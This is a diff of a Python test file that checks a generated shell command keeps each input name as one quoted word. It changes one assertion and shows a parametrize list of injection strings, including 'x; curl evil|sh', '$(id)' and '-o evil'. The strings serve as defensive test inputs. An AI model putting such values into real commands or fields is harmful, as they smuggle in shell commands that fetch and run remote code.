@@ -187,7 +187,7 @@ def test_the_name_of_an_input_is_one_word_of_a_command(command, saved, name):
         line = next(line for line in text.splitlines() if "--input " in line)
         words = shlex.shlex(line, posix=True, punctuation_chars=True)  # as a shell: > is a word of its own
         words.whitespace_split = True
-        assert [*words][-1] in (f"{name}=FILE.npy", f"{name}=1")
+        assert [*words][-1] in (f"{name}=FILE.npy", f"{name}:1")
 
 
 @pytest.mark.parametrize("name", ["x; curl evil|sh", "$(id)", "`id`", "it's", "-o evil"])  # of a signature
